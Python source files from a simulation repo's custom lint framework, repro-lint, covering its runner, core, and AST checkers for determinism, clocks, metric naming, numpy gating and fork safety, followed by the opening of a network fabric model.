    """Run the checkers and fold in the baseline.

    ``paths`` defaults to ``<root>/src/repro``; ``root`` (default: the
    current directory) anchors the repo-relative paths findings and
    baselines use.  ``project_checks=False`` skips the registry
    introspection checkers — fixture trees have no registries to
    introspect.
    """
    root = (root or Path.cwd()).resolve()
    if paths is None:
        paths = [root / "src" / "repro"]
    checkers = resolve_rules(rules)
    ast_checkers = [c for c in checkers if not c.project_level]
    project_checkers = [c for c in checkers if c.project_level]

    findings: list[Finding] = []
    suppressed = 0
    errors: list[str] = []
    files = _iter_python_files(paths)
    for file in files:
        rel = _rel_path(file, root)
        try:
            src = SourceFile.load(file, rel)
        except SyntaxError as exc:
            errors.append(f"{rel}: cannot parse: {exc.msg} (line {exc.lineno})")
            continue
        for checker in ast_checkers:
            if not checker.applies_to(rel):
                continue
            for finding in checker.check(src):
                if src.suppressed(finding):
                    suppressed += 1
                else:
                    findings.append(finding)

    if project_checks:
        for checker in project_checkers:
            findings.extend(checker.check_project(root))

    findings.sort(key=Finding.sort_key)
    if baseline is None:
        baseline = Baseline()
    new, baselined, stale = baseline.partition(findings)
    return LintResult(
        root=root,
        checked_files=len(files),
        rules=[c.rule for c in checkers],
        findings=findings,
        new=new,
        baselined=baselined,
        stale=stale,
        suppressed=suppressed,
        errors=errors,
    )


def render_rule_list() -> str:
    """``repro lint --list``: rule id, one-line contract, file scope —
    the scenario CLI's ``--list`` idiom."""
    lines = ["rules:"]
    for name, checker in CHECKERS.items():
        kind = "project" if checker.project_level else "ast"
        lines.append(f"  {name:24s} [{kind:7s}] {checker.contract}")
        lines.append(f"  {'':24s} {'':9s} scope: {checker.scope}")
    lines.append("")
    lines.append("pragmas:     # repro-lint: disable=<rule>[,<rule>...]   "
                 "(same line)")
    lines.append("             # repro-lint: disable-file=<rule>          "
                 "(whole file; own line)")
    lines.append(f"baseline:    {DEFAULT_BASELINE_NAME} at the repo root "
                 "(--write-baseline refreshes it)")
    return "\n".join(lines)


def configure_parser(parser: argparse.ArgumentParser) -> None:
    """Attach the lint arguments (shared between the standalone parser
    and the ``repro lint`` subcommand)."""
    parser.add_argument("paths", nargs="*", type=Path,
                        help="files/directories to lint "
                        "(default: src/repro under --root)")
    parser.add_argument("--list", action="store_true",
                        help="enumerate rules, contracts and scopes")
    parser.add_argument("--format", choices=("human", "json"),
                        default="human", help="report format")
    parser.add_argument("--output", type=Path, default=None, metavar="FILE",
                        help="also write the JSON report to FILE "
                        "(CI artifact upload)")
    parser.add_argument("--root", type=Path, default=None,
                        help="repo root anchoring relative paths "
                        "(default: the current directory)")
    parser.add_argument("--baseline", type=Path, default=None, metavar="FILE",
                        help=f"baseline file (default: "
                        f"<root>/{DEFAULT_BASELINE_NAME} when present)")
    parser.add_argument("--no-baseline", action="store_true",
                        help="ignore any baseline: every finding is new")
    parser.add_argument("--write-baseline", action="store_true",
                        help="rewrite the baseline to exactly the current "
                        "findings (adds new, expires stale) and exit 0")
    parser.add_argument("--rules", default=None, metavar="RULE[,RULE...]",
                        help="run only these rules")
    parser.add_argument("--no-project-checks", action="store_true",
                        help="skip the registry-introspection checkers "
                        "(fixture trees)")


def build_parser() -> argparse.ArgumentParser:
    parser = argparse.ArgumentParser(
        prog="repro lint",
        description="repro-lint: the repo's contract checkers "
        "(determinism, batch-first, fork safety, ...)",
    )
    configure_parser(parser)
    return parser


def execute(args: argparse.Namespace) -> int:
    """Run the lint command from parsed arguments (the CLI's
    ``repro lint`` entry calls this directly)."""
    if args.list:
        print(render_rule_list())
        return 0

    root = (args.root or Path.cwd()).resolve()
    baseline_path = args.baseline or (root / DEFAULT_BASELINE_NAME)
    baseline = Baseline()
    if not args.no_baseline:
        try:
            baseline = Baseline.load(baseline_path)
        except (ValueError, json.JSONDecodeError) as exc:
            print(f"repro-lint: bad baseline {baseline_path}: {exc}",
                  file=sys.stderr)
            return 2

    rules = args.rules.split(",") if args.rules else None
    try:
        result = run_lint(
            paths=[p for p in args.paths] or None,
            root=root,
            rules=rules,
            baseline=baseline,
            project_checks=not args.no_project_checks,
        )
    except UnknownNameError as exc:
        print(f"repro-lint: {exc}", file=sys.stderr)
        return 2

    if args.write_baseline:
        Baseline.from_findings(result.findings).write(baseline_path)
        print(
            f"repro-lint: baseline written to {baseline_path} "
            f"({len(result.findings)} findings recorded, "
            f"{len(result.stale)} stale entries expired)"
        )
        return 0

    if args.output is not None:
        args.output.write_text(
            json.dumps(result.to_dict(), indent=2) + "\n", encoding="utf-8"
        )
    if args.format == "json":
        print(json.dumps(result.to_dict(), indent=2))
    else:
        print(result.render())
    return 0 if result.ok else 1


def main(argv: list[str] | None = None) -> int:
    return execute(build_parser().parse_args(argv))


if __name__ == "__main__":
    sys.exit(main())
