"""repro-lint: the repo-specific static-analysis framework.

The reproduction rests on contracts the test suite can only
spot-check — bit-identical series across backends, seeded-RNG-only
determinism, monotonic simulated clocks, batch-first hot paths,
numpy-free imports outside :mod:`repro.vec`, and a frozen parent after
the parallel runtime forks.  This package machine-checks them:

* :mod:`repro.analysis.core` — :class:`Finding`, the :class:`Checker`
  base, the :data:`CHECKERS` registry, pragma parsing;
* :mod:`repro.analysis.checkers` — the AST rules (determinism,
  wall-clock, batch-first, numpy gating, fork safety, monotonic
  clocks);
* :mod:`repro.analysis.project` — the live-registry rules (Datapath
  protocol conformance, registry hygiene);
* :mod:`repro.analysis.baseline` — grandfathered findings;
* :mod:`repro.analysis.runner` — ``repro lint``.

Suppress one finding with a trailing
``# repro-lint: disable=<rule>`` pragma; grandfather the rest in the
committed ``LINT_BASELINE.json``.  ``repro lint`` exits non-zero on
anything new.
"""

from __future__ import annotations

from repro.analysis.baseline import Baseline
from repro.analysis.core import CHECKERS, Checker, Finding, SourceFile
from repro.analysis.runner import LintResult, main, run_lint

__all__ = [
    "Baseline",
    "CHECKERS",
    "Checker",
    "Finding",
    "LintResult",
    "SourceFile",
    "main",
    "run_lint",
]
