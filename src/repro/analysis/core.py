"""The repro-lint core: findings, checkers, pragmas, source files.

The framework is deliberately small: a :class:`Finding` is one
violation, a :class:`Checker` is one machine-checked contract, and
:data:`CHECKERS` is the string-keyed registry tying rule ids to
checkers (the same :class:`~repro.util.registry.Registry` the scenario
axes use, so ``repro lint --list`` mirrors ``repro scenario --list``).

Two checker families exist:

* **AST checkers** implement :meth:`Checker.check` and are handed one
  parsed :class:`SourceFile` at a time; scoping is by repo-relative
  path (:meth:`Checker.applies_to`).
* **Project checkers** set ``project_level = True`` and implement
  :meth:`Checker.check_project` — they import the live registries and
  introspect them (protocol conformance, registry hygiene), so they
  run once per lint invocation, not per file.

Suppression is explicit and reviewable: a trailing
``# repro-lint: disable=<rule>[,<rule>...]`` pragma silences matching
findings on that line, and a whole-line
``# repro-lint: disable-file=<rule>`` near the top of a module
silences the rule for the file.  Everything not suppressed and not in
the committed baseline fails the lint run.
"""

from __future__ import annotations

import ast
import re
import tokenize
from dataclasses import dataclass, field
from pathlib import Path
from typing import Iterable, Iterator

from repro.util.registry import Registry

__all__ = [
    "CHECKERS",
    "Checker",
    "Finding",
    "SourceFile",
    "parse_pragmas",
]

#: the pragma grammar: ``# repro-lint: disable=a,b`` (same line) or
#: ``# repro-lint: disable-file=a,b`` (whole file; the comment must be
#: the only thing on its line)
_PRAGMA_RE = re.compile(
    r"#\s*repro-lint:\s*disable(?P<scope>-file)?\s*=\s*"
    r"(?P<rules>[A-Za-z0-9_\-]+(?:\s*,\s*[A-Za-z0-9_\-]+)*)"
)


@dataclass(frozen=True)
class Finding:
    """One contract violation at one location.

    ``path`` is repo-relative (posix separators) so baselines travel
    between checkouts; the :meth:`fingerprint` deliberately excludes
    the line number — grandfathered findings survive unrelated edits
    above them instead of churning the baseline.
    """

    rule: str
    path: str
    line: int
    col: int
    message: str

    def fingerprint(self) -> tuple[str, str, str]:
        """The baseline identity: (rule, path, message)."""
        return (self.rule, self.path, self.message)

    def sort_key(self) -> tuple[str, int, int, str, str]:
        return (self.path, self.line, self.col, self.rule, self.message)

    def format(self) -> str:
        return f"{self.path}:{self.line}:{self.col}: {self.rule}: {self.message}"

    def to_dict(self) -> dict:
        """The stable JSON shape (``--format json`` / CI artifacts)."""
        return {
            "rule": self.rule,
            "path": self.path,
            "line": self.line,
            "col": self.col,
            "message": self.message,
        }

    @classmethod
    def from_dict(cls, data: dict) -> "Finding":
        return cls(
            rule=data["rule"],
            path=data["path"],
            line=int(data.get("line", 1)),
            col=int(data.get("col", 0)),
            message=data["message"],
        )


def parse_pragmas(text: str) -> tuple[dict[int, set[str]], set[str]]:
    """Extract suppression pragmas from source text.

    Returns ``(per_line, whole_file)``: a line-number -> rule-id-set
    map for same-line pragmas, and the set of rules disabled for the
    whole file.  Comments are found with :mod:`tokenize` so pragma
    lookalikes inside string literals never suppress anything.
    """
    per_line: dict[int, set[str]] = {}
    whole_file: set[str] = set()
    lines = iter(text.splitlines(keepends=True))
    try:
        tokens = list(tokenize.generate_tokens(lambda: next(lines, "")))
    except (tokenize.TokenError, IndentationError, SyntaxError):
        return per_line, whole_file
    for token in tokens:
        if token.type != tokenize.COMMENT:
            continue
        match = _PRAGMA_RE.search(token.string)
        if match is None:
            continue
        rules = {part.strip() for part in match.group("rules").split(",")}
        if match.group("scope"):
            # file-level pragmas must stand alone on their line: a
            # trailing disable-file would read like a line suppression
            if token.line.strip() == token.string.strip():
                whole_file |= rules
        else:
            per_line.setdefault(token.start[0], set()).update(rules)
    return per_line, whole_file


@dataclass
class SourceFile:
    """One parsed module handed to every applicable AST checker."""

    path: Path
    #: repo-relative posix path — what scoping and reports use
    rel: str
    text: str
    tree: ast.Module
    disabled_lines: dict[int, set[str]] = field(default_factory=dict)
    disabled_rules: set[str] = field(default_factory=set)

    @classmethod
    def load(cls, path: Path, rel: str) -> "SourceFile":
        text = path.read_text(encoding="utf-8")
        tree = ast.parse(text, filename=str(path))
        per_line, whole_file = parse_pragmas(text)
        return cls(
            path=path,
            rel=rel,
            text=text,
            tree=tree,
            disabled_lines=per_line,
            disabled_rules=whole_file,
        )

    def suppressed(self, finding: Finding) -> bool:
        """Whether a pragma silences this finding."""
        if finding.rule in self.disabled_rules:
            return True
        rules = self.disabled_lines.get(finding.line, ())
        return finding.rule in rules

    def parents(self) -> dict[ast.AST, ast.AST]:
        """A child -> parent map over the module AST (computed lazily;
        several checkers need ancestry for loop/function context)."""
        cached = getattr(self, "_parents", None)
        if cached is None:
            cached = {}
            for node in ast.walk(self.tree):
                for child in ast.iter_child_nodes(node):
                    cached[child] = node
            self._parents = cached
        return cached

    def enclosing_function(self, node: ast.AST) -> ast.AST | None:
        """The nearest enclosing function/async-function def, if any."""
        parents = self.parents()
        current = parents.get(node)
        while current is not None:
            if isinstance(current, (ast.FunctionDef, ast.AsyncFunctionDef)):
                return current
            current = parents.get(current)
        return None

    def in_loop(self, node: ast.AST) -> bool:
        """Whether the node sits inside a loop (or comprehension) body,
        without crossing a nested function boundary."""
        parents = self.parents()
        current = parents.get(node)
        while current is not None:
            if isinstance(current, (ast.For, ast.AsyncFor, ast.While,
                                    ast.ListComp, ast.SetComp, ast.DictComp,
                                    ast.GeneratorExp)):
                return True
            if isinstance(current, (ast.FunctionDef, ast.AsyncFunctionDef)):
                return False
            current = parents.get(current)
        return False


class Checker:
    """One machine-checked contract.

    Subclasses set ``rule`` (the id pragmas and baselines use),
    ``contract`` (the one-line statement ``--list`` prints) and
    ``scope`` (the human-readable file scope), then implement
    :meth:`check` — or set ``project_level = True`` and implement
    :meth:`check_project`.
    """

    rule: str = ""
    contract: str = ""
    scope: str = "src/repro"
    #: project checkers introspect live registries instead of file ASTs
    project_level: bool = False

    def applies_to(self, rel: str) -> bool:
        """Whether this checker runs on the file at repo-relative
        ``rel`` (AST checkers only)."""
        return True

    def check(self, src: SourceFile) -> Iterator[Finding]:
        """Yield findings for one source file (AST checkers)."""
        return iter(())

    def check_project(self, root: Path) -> Iterator[Finding]:
        """Yield findings for the project as a whole (project
        checkers)."""
        return iter(())

    # -- helpers shared by the concrete checkers ---------------------------

    def finding(self, src: SourceFile | None, node: ast.AST | None,
                message: str, *, path: str = "", line: int = 1) -> Finding:
        if src is not None and node is not None:
            return Finding(
                rule=self.rule,
                path=src.rel,
                line=getattr(node, "lineno", 1),
                col=getattr(node, "col_offset", 0),
                message=message,
            )
        return Finding(rule=self.rule, path=path, line=line, col=0,
                       message=message)


#: rule id -> checker instance; registration order is presentation
#: order in ``repro lint --list``
CHECKERS: Registry[Checker] = Registry("lint rule")


def register(checker_cls: type[Checker]) -> type[Checker]:
    """Class decorator: instantiate and register a checker under its
    rule id."""
    CHECKERS.register(checker_cls.rule, checker_cls())
    return checker_cls


def dotted_name(node: ast.AST) -> str:
    """Render ``a.b.c`` attribute/name chains (empty for anything
    else) — the matcher most checkers use to spot API calls."""
    parts: list[str] = []
    current = node
    while isinstance(current, ast.Attribute):
        parts.append(current.attr)
        current = current.value
    if isinstance(current, ast.Name):
        parts.append(current.id)
        return ".".join(reversed(parts))
    return ""


def walk_with_scope(src: SourceFile) -> Iterable[ast.AST]:
    """Plain ``ast.walk`` over the module — here as a hook point so a
    future cross-file pass can reuse the per-file iteration."""
    return ast.walk(src.tree)
