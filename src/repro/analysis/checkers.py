"""The AST checkers: the repo's documented contracts, machine-checked.

Each checker encodes one invariant the test suite can only spot-check
(determinism, monotonic clocks, batch-first hot paths, numpy gating,
fork safety).  They are all scoped by repo-relative path suffix, so the
same rules run unchanged over the shipped tree and over the fixture
snippets the test suite writes into temporary directories (a fixture at
``<tmp>/runtime/bad.py`` exercises the fork-safety rule exactly like
``src/repro/runtime/parallel.py`` does).
"""

from __future__ import annotations

import ast
import re
from typing import Iterator

from repro.analysis.core import (
    Checker,
    Finding,
    SourceFile,
    dotted_name,
    register,
)

__all__ = [
    "BatchFirstChecker",
    "DeterminismHashChecker",
    "DeterminismRandomChecker",
    "ForkSafetyChecker",
    "MetricHygieneChecker",
    "MonotonicClockChecker",
    "NumpyGateChecker",
    "WallClockChecker",
]


def _suffix_match(rel: str, suffixes: tuple[str, ...]) -> bool:
    return any(rel.endswith(suffix) for suffix in suffixes)


def _segment_match(rel: str, segments: tuple[str, ...]) -> bool:
    parts = rel.split("/")
    return any(segment in parts for segment in segments)


# ---------------------------------------------------------------------------
# determinism
# ---------------------------------------------------------------------------

@register
class DeterminismRandomChecker(Checker):
    """Seeded-RNG-only determinism: all randomness flows through
    :class:`~repro.util.rng.DeterministicRng`."""

    rule = "determinism-random"
    contract = ("randomness outside util/rng.py (random/secrets imports, "
                "os.urandom, uuid.uuid1/uuid4) breaks seeded reproducibility")
    scope = "src/repro (util/rng.py exempt)"

    #: module imports that smuggle in unseeded randomness
    _banned_imports = {"random", "secrets"}
    #: attribute chains whose *call* is nondeterministic
    _banned_calls = {"os.urandom", "uuid.uuid1", "uuid.uuid4"}

    def applies_to(self, rel: str) -> bool:
        return not rel.endswith("util/rng.py")

    def check(self, src: SourceFile) -> Iterator[Finding]:
        for node in ast.walk(src.tree):
            if isinstance(node, ast.Import):
                for alias in node.names:
                    root = alias.name.split(".")[0]
                    if root in self._banned_imports:
                        yield self.finding(
                            src, node,
                            f"import of {alias.name!r}: draw from a "
                            "seeded DeterministicRng (repro.util.rng) "
                            "instead of ambient randomness",
                        )
            elif isinstance(node, ast.ImportFrom):
                root = (node.module or "").split(".")[0]
                if root in self._banned_imports and node.level == 0:
                    yield self.finding(
                        src, node,
                        f"import from {node.module!r}: draw from a seeded "
                        "DeterministicRng (repro.util.rng) instead of "
                        "ambient randomness",
                    )
            elif isinstance(node, ast.Call):
                chain = dotted_name(node.func)
                if chain in self._banned_calls:
                    yield self.finding(
                        src, node,
                        f"{chain}() is nondeterministic; derive values "
                        "from the experiment seed",
                    )


@register
class DeterminismHashChecker(Checker):
    """``hash()`` on str/bytes is salted per process (PYTHONHASHSEED):
    any value derived from it varies between runs."""

    rule = "determinism-hash"
    contract = ("builtin hash() outside __hash__ is salted per process for "
                "str/bytes; derive values arithmetically (see shard_seed)")
    scope = "src/repro"

    def check(self, src: SourceFile) -> Iterator[Finding]:
        for node in ast.walk(src.tree):
            if not (isinstance(node, ast.Call)
                    and isinstance(node.func, ast.Name)
                    and node.func.id == "hash"):
                continue
            enclosing = src.enclosing_function(node)
            if enclosing is not None and enclosing.name == "__hash__":
                # dunder __hash__ only steers dict/set bucketing, which
                # never leaks into simulation results
                continue
            yield self.finding(
                src, node,
                "builtin hash() is randomized per process for str/bytes "
                "inputs; use deterministic mixing (shard_seed-style "
                "arithmetic, zlib.crc32, hashlib) or suppress with a "
                "pragma if the argument provably hashes only ints",
            )


# ---------------------------------------------------------------------------
# wall clock
# ---------------------------------------------------------------------------

@register
class WallClockChecker(Checker):
    """Simulated time only: wall-clock reads belong in benchmarks/ and
    the serve loop's wall-pps snapshot."""

    rule = "wall-clock"
    contract = ("wall-clock reads (time.time/perf_counter/monotonic, "
                "datetime.now) are confined to benchmarks/ and the serve "
                "wall-pps snapshot allowlist")
    scope = "src/repro (benchmarks/ out of scope; serve run loop allowlisted)"

    _banned = {
        "time.time", "time.time_ns",
        "time.perf_counter", "time.perf_counter_ns",
        "time.monotonic", "time.monotonic_ns",
        "time.process_time", "time.process_time_ns",
        "datetime.now", "datetime.utcnow",
        "datetime.datetime.now", "datetime.datetime.utcnow",
    }
    #: (path suffix, enclosing function) pairs allowed to read the wall
    #: clock — the serve loop's packets-per-second accounting and the
    #: obs exporter that assembles its wall-pps fields
    allowlist = (
        ("runtime/service.py", "run"),
        ("obs/export.py", "wall_pps_snapshot"),
    )

    def applies_to(self, rel: str) -> bool:
        return not _segment_match(rel, ("benchmarks",))

    def _allowed(self, rel: str, function: str | None) -> bool:
        return any(
            rel.endswith(suffix) and function == name
            for suffix, name in self.allowlist
        )

    def check(self, src: SourceFile) -> Iterator[Finding]:
        # names imported straight off the time module count too:
        # ``from time import perf_counter`` then a bare call
        bare_names: dict[str, str] = {}
        for node in ast.walk(src.tree):
            if isinstance(node, ast.ImportFrom) and node.module == "time":
                for alias in node.names:
                    if f"time.{alias.name}" in self._banned:
                        bare_names[alias.asname or alias.name] = alias.name
        for node in ast.walk(src.tree):
            if not isinstance(node, ast.Call):
                continue
            chain = dotted_name(node.func)
            source = None
            if chain in self._banned:
                source = chain
            elif isinstance(node.func, ast.Name) and node.func.id in bare_names:
                source = f"time.{bare_names[node.func.id]}"
            if source is None:
                continue
            enclosing = src.enclosing_function(node)
            function = enclosing.name if enclosing is not None else None
            if self._allowed(src.rel, function):
                continue
            yield self.finding(
                src, node,
                f"{source}() reads the wall clock; simulation code must "
                "run on simulated time (pass `now`), and wall-clock "
                "measurement belongs in benchmarks/ or the serve "
                "snapshot allowlist",
            )


# ---------------------------------------------------------------------------
# metric hygiene
# ---------------------------------------------------------------------------

@register
class MetricHygieneChecker(Checker):
    """Telemetry's naming contract, checked at the call sites: metric
    and span names are lowercase dotted string *literals* registered
    through the :class:`~repro.obs.telemetry.Telemetry` registry, and
    instrumented modules don't keep ad-hoc string-keyed dict counters
    beside it (two counting schemes drift apart silently)."""

    rule = "metric-hygiene"
    contract = ("Telemetry counter/gauge/histogram and trace .record "
                "names must be lowercase dotted string literals "
                "(dimensions travel as labels); modules importing "
                "repro.obs must not grow ad-hoc `d['key'] += n` "
                "counters beside the registry")
    scope = "src/repro (dict-counter sub-rule: importers of repro.obs; " \
            "the obs package itself exempt)"

    #: lowercase dotted identifiers, two+ segments — kept in sync with
    #: repro.obs.telemetry.METRIC_NAME_RE (duplicated so the checker
    #: parses fixture trees without importing the instrumented package)
    _name_re = re.compile(r"^[a-z][a-z0-9_]*(\.[a-z][a-z0-9_]*)+$")
    #: receiver segments marking a Telemetry registry handle
    _telemetry_receivers = {"telemetry", "tele"}
    _register_calls = {"counter", "gauge", "histogram"}
    #: receiver segments marking a span recorder handle
    _trace_receivers = {"trace", "_trace"}

    def applies_to(self, rel: str) -> bool:
        # the registry/exporter implementation manipulates names and
        # aggregation dicts generically — the contract binds its callers
        return not _segment_match(rel, ("obs",))

    @staticmethod
    def _segments(chain: str) -> set[str]:
        return set(chain.split("."))

    def _imports_obs(self, src: SourceFile) -> bool:
        for node in ast.walk(src.tree):
            if isinstance(node, ast.Import):
                if any(a.name.split(".")[0:2] == ["repro", "obs"]
                       for a in node.names):
                    return True
            elif isinstance(node, ast.ImportFrom):
                module = node.module or ""
                if module == "repro.obs" or module.startswith("repro.obs."):
                    return True
        return False

    def _check_name(self, src: SourceFile, node: ast.Call,
                    what: str) -> Iterator[Finding]:
        if not node.args:
            yield self.finding(
                src, node,
                f"{what} call without a positional name; pass the "
                "metric name as the first argument",
            )
            return
        name_arg = node.args[0]
        if not (isinstance(name_arg, ast.Constant)
                and isinstance(name_arg.value, str)):
            yield self.finding(
                src, node,
                f"{what} name must be a string literal (exporters and "
                "the lint baseline need the full name set statically "
                "known); put dynamic dimensions in labels, not the name",
            )
            return
        if not self._name_re.match(name_arg.value):
            yield self.finding(
                src, node,
                f"{what} name {name_arg.value!r} is not a lowercase "
                "dotted identifier (expected e.g. 'sim.attacker.cycles')",
            )

    def check(self, src: SourceFile) -> Iterator[Finding]:
        for node in ast.walk(src.tree):
            if not (isinstance(node, ast.Call)
                    and isinstance(node.func, ast.Attribute)):
                continue
            chain = dotted_name(node.func)
            segments = self._segments(chain)
            if (node.func.attr in self._register_calls
                    and segments & self._telemetry_receivers):
                yield from self._check_name(
                    src, node, f"telemetry .{node.func.attr}()"
                )
            elif (node.func.attr == "record"
                    and segments & self._trace_receivers):
                yield from self._check_name(src, node, "trace .record()")
        if not self._imports_obs(src):
            return
        for node in ast.walk(src.tree):
            if not (isinstance(node, ast.AugAssign)
                    and isinstance(node.op, ast.Add)
                    and isinstance(node.target, ast.Subscript)):
                continue
            key = node.target.slice
            if not (isinstance(key, ast.Constant)
                    and isinstance(key.value, str)):
                continue
            yield self.finding(
                src, node,
                f"ad-hoc dict counter [{key.value!r}] += ... in an "
                "instrumented module; register a Telemetry counter "
                "(labels for the dimensions) so the series shows up in "
                "every exporter",
            )


# ---------------------------------------------------------------------------
# batch-first
# ---------------------------------------------------------------------------

@register
class BatchFirstChecker(Checker):
    """The hot path is ``process_batch``: per-key ``.process()`` calls
    inside loops re-pay per-packet clock/revalidator overhead."""

    rule = "batch-first"
    contract = ("per-key .process() inside a loop: coalesce the keys and "
                "make one process_batch call (process() is the single-key "
                "special case)")
    scope = "src/repro"

    #: single-key delegation wrappers are the contract, not a violation
    _exempt_functions = {"process", "process_batch", "handle_miss"}

    def check(self, src: SourceFile) -> Iterator[Finding]:
        for node in ast.walk(src.tree):
            if not (isinstance(node, ast.Call)
                    and isinstance(node.func, ast.Attribute)
                    and node.func.attr == "process"):
                continue
            if not src.in_loop(node):
                continue
            enclosing = src.enclosing_function(node)
            if enclosing is not None and enclosing.name in self._exempt_functions:
                continue
            yield self.finding(
                src, node,
                "per-key .process() in a loop; hoist the keys into one "
                ".process_batch(keys) burst (bit-identical results, "
                "amortised clock/revalidator work)",
            )


# ---------------------------------------------------------------------------
# numpy gating
# ---------------------------------------------------------------------------

@register
class NumpyGateChecker(Checker):
    """Everything outside :mod:`repro.vec` imports numpy-free; inside
    it, the only top-level numpy import is the try/ImportError gate
    behind ``HAVE_NUMPY``/``require_numpy``."""

    rule = "numpy-gating"
    contract = ("import numpy only inside repro.vec behind the HAVE_NUMPY "
                "try/ImportError gate (or via require_numpy); everything "
                "else stays numpy-free at import time")
    scope = "src/repro"

    def check(self, src: SourceFile) -> Iterator[Finding]:
        in_vec = _segment_match(src.rel, ("vec",))
        parents = src.parents()
        for node in ast.walk(src.tree):
            if isinstance(node, ast.Import):
                names = [a.name for a in node.names]
            elif isinstance(node, ast.ImportFrom):
                names = [node.module or ""]
            else:
                continue
            if not any(name.split(".")[0] == "numpy" for name in names):
                continue
            if not in_vec:
                yield self.finding(
                    src, node,
                    "direct numpy import outside repro.vec; go through "
                    "repro.vec.require_numpy()/HAVE_NUMPY so the module "
                    "imports (and degrades) without numpy",
                )
                continue
            # inside repro.vec: the import must be gated — inside a
            # try whose handlers catch ImportError, or deferred into a
            # function body
            if src.enclosing_function(node) is not None:
                continue
            current = parents.get(node)
            gated = False
            while current is not None:
                if isinstance(current, ast.Try):
                    for handler in current.handlers:
                        caught = handler.type
                        names_caught = []
                        if isinstance(caught, ast.Name):
                            names_caught = [caught.id]
                        elif isinstance(caught, ast.Tuple):
                            names_caught = [
                                e.id for e in caught.elts
                                if isinstance(e, ast.Name)
                            ]
                        if ("ImportError" in names_caught
                                or "ModuleNotFoundError" in names_caught):
                            gated = True
                    break
                current = parents.get(current)
            if not gated:
                yield self.finding(
                    src, node,
                    "top-level numpy import without the try/ImportError "
                    "HAVE_NUMPY gate; importing repro.vec must succeed "
                    "without numpy installed",
                )


# ---------------------------------------------------------------------------
# fork safety
# ---------------------------------------------------------------------------

@register
class ForkSafetyChecker(Checker):
    """The multi-process runtime's two load-bearing rules: parent-side
    switch state is frozen once workers fork, and per-packet
    ``PacketResult`` objects never cross the mailbox."""

    rule = "fork-safety"
    contract = ("in runtime/: parent-side switch mutation needs a "
                "started/_procs guard, and PacketResults (or .results "
                "lists) must never be sent over the worker mailbox")
    scope = "src/repro/runtime"

    #: names whose presence in a function marks the post-start branch
    _guards = {"_procs", "started", "_started"}
    #: attribute names holding the parent-side pre-fork switch list
    _switch_stores = {"_switches", "switches", "_locals"}
    #: mailbox send entry points
    _send_calls = {"send", "_send", "_broadcast", "_request"}

    def applies_to(self, rel: str) -> bool:
        return _segment_match(rel, ("runtime",))

    def _names_in(self, node: ast.AST) -> set[str]:
        names: set[str] = set()
        for child in ast.walk(node):
            if isinstance(child, ast.Attribute):
                names.add(child.attr)
            elif isinstance(child, ast.Name):
                names.add(child.id)
        return names

    def check(self, src: SourceFile) -> Iterator[Finding]:
        for node in ast.walk(src.tree):
            if isinstance(node, ast.Call):
                yield from self._check_send(src, node)
        for node in ast.walk(src.tree):
            if isinstance(node, (ast.FunctionDef, ast.AsyncFunctionDef)):
                yield from self._check_mutation(src, node)

    def _check_send(self, src: SourceFile, node: ast.Call) -> Iterator[Finding]:
        if not (isinstance(node.func, ast.Attribute)
                and node.func.attr in self._send_calls):
            return
        for arg in list(node.args) + [kw.value for kw in node.keywords]:
            names = self._names_in(arg)
            if "PacketResult" in names or "results" in names:
                yield self.finding(
                    src, node,
                    "mailbox send references PacketResult/.results: "
                    "per-packet objects must never be pickled across the "
                    "worker pipe — ship aggregate counters "
                    "(BATCH_WIRE_FIELDS) instead",
                )
                return

    def _check_mutation(self, src: SourceFile,
                        node: ast.FunctionDef | ast.AsyncFunctionDef,
                        ) -> Iterator[Finding]:
        if node.name == "__init__":
            # construction happens strictly pre-fork
            return
        names = self._names_in(node)
        touches_switches = bool(names & self._switch_stores)
        if not touches_switches:
            return
        if names & self._guards:
            return
        yield self.finding(
            src, node,
            f"{node.name}() touches the parent-side switch store without "
            "consulting the started/_procs guard; after the workers fork, "
            "parent-side switch state silently diverges from the workers' "
            "copies — branch on the runtime state first",
        )


# ---------------------------------------------------------------------------
# monotonic clock
# ---------------------------------------------------------------------------

@register
class MonotonicClockChecker(Checker):
    """Datapath clocks only move forward: direct ``self.clock = now``
    assignments bypass the clamp helpers and can un-expire idle state."""

    rule = "monotonic-clock"
    contract = ("datapath clock assignments must clamp (max(...) or a "
                "`now > self.clock` guard); rewinding un-expires idle "
                "accounting and revalidator sweeps")
    scope = ("ovs/switch.py, ovs/pmd.py, vec/engine.py, "
             "scenario/datapath.py, runtime/parallel.py, "
             "defense/cacheless.py, topo/network.py")

    _files = (
        "ovs/switch.py",
        "ovs/pmd.py",
        "vec/engine.py",
        "scenario/datapath.py",
        "runtime/parallel.py",
        "defense/cacheless.py",
        "topo/network.py",
    )

    def applies_to(self, rel: str) -> bool:
        return _suffix_match(rel, self._files)

    def _clamped(self, src: SourceFile, node: ast.Assign) -> bool:
        value = node.value
        # zero-initialisation in __init__ (or a reset) is not a rewind
        if isinstance(value, ast.Constant) and value.value in (0, 0.0):
            return True
        # the max(...) clamp idiom
        if (isinstance(value, ast.Call)
                and isinstance(value.func, ast.Name)
                and value.func.id == "max"):
            return True
        # the guarded-assignment clamp idiom:
        #   if now > self.clock: self.clock = now
        parents = src.parents()
        current = parents.get(node)
        while current is not None:
            if isinstance(current, ast.If):
                for test_node in ast.walk(current.test):
                    if (isinstance(test_node, ast.Compare)
                            and any(isinstance(op, (ast.Gt, ast.GtE))
                                    for op in test_node.ops)
                            and any("clock" in dotted_name(part)
                                    for part in ([test_node.left]
                                                 + test_node.comparators))):
                        return True
            if isinstance(current, (ast.FunctionDef, ast.AsyncFunctionDef)):
                break
            current = parents.get(current)
        return False

    def check(self, src: SourceFile) -> Iterator[Finding]:
        for node in ast.walk(src.tree):
            if not isinstance(node, ast.Assign):
                continue
            clock_targets = [
                target for target in node.targets
                if isinstance(target, ast.Attribute)
                and target.attr == "clock"
                and isinstance(target.value, ast.Name)
                and target.value.id == "self"
            ]
            if not clock_targets:
                continue
            if self._clamped(src, node):
                continue
            yield self.finding(
                src, node,
                "direct self.clock assignment without a monotonic clamp; "
                "use max(self.clock, now) or the `now > self.clock` "
                "guarded idiom (_advance)",
            )
