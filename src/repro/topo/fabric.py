"""The data-center fabric connecting server nodes.

Modelled as a non-blocking L3 fabric (the paper's attack is entirely
about the *edge* — the hypervisor switches — so the fabric only needs
to deliver packets to the right node and count them)."""

from __future__ import annotations

from dataclasses import dataclass, field


@dataclass
class FabricLink:
    """One node's uplink into the fabric, with counters."""

    node_name: str
    tx_packets: int = 0
    rx_packets: int = 0
    tx_bytes: int = 0
    rx_bytes: int = 0


class Fabric:
    """A star fabric: every node one hop from every other."""

